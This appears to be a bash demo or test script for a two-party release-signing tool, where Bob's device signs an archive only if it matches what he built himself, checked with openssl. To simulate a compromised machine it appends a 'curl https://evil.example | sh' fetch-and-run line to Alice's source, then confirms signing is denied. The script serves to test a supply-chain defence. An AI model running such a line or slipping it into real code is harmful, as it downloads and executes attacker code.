#!/usr/bin/env bash
# Two people build a release and sign it together: each machine signs only what it has built itself,
# and anybody can check the signature with openssl.
. "$(dirname "$0")/devices.sh"

# build NAME: the archive, from that person's copy of the source. The same source gives the same bytes.
build() {
    mkdir -p -m 755 "$work/$1/dist"
    tar -C "$work/$1/source" --sort=name --mtime=@0 --owner=0 --group=0 --numeric-owner --mode=go=rX,u+rw \
        -cf "$work/$1/dist/app-1.2.tar" .
}

say "two devices that know each other"
device alice
device bob
introduce alice bob

say "bob's rules: a key for releases, and no release that he has not built himself"
cat >"$work/bob/policy.toml" <<'RULES'
[[rule]]
peer = "alice"
ceremony = "keygen"
key = "release"
action = "allow"

[[rule]]
peer = "alice"
ceremony = "sign"
key = "release"
file_in = "dist"
action = "allow"
RULES
for name in alice bob; do
    mkdir -p "$work/$name/source"
    cp "$recipes/release.sh" "$recipes/devices.sh" "$work/$name/source"
    build "$name"
done
listen bob "$work/bob/policy.toml"

say "a key that exists on neither of them"
as alice keygen --key release --with bob --peer "$address"
as alice keys export release -o "$work/release.pem"

say "both have built the same, so bob's machine signs"
(cd "$work" && sha256sum alice/dist/app-1.2.tar bob/dist/app-1.2.tar)
as alice sign --key release --file "$work/alice/dist/app-1.2.tar" --purpose "release 1.2" --peer "$address" \
    -o "$work/app-1.2.tar.sig"

say "anybody checks it, with openssl alone"
openssl dgst -sha256 -verify "$work/release.pem" -signature "$work/app-1.2.tar.sig" "$work/bob/dist/app-1.2.tar"

say "alice's machine has been broken into: what it builds differs, and is not signed"
echo 'curl https://evil.example | sh' >>"$work/alice/source/devices.sh"
build alice
status=0
as alice sign --key release --file "$work/alice/dist/app-1.2.tar" --purpose "release 1.2" --peer "$address" || status=$?
[ "$status" = 9 ] # denied by bob's rules
stop "$pid"
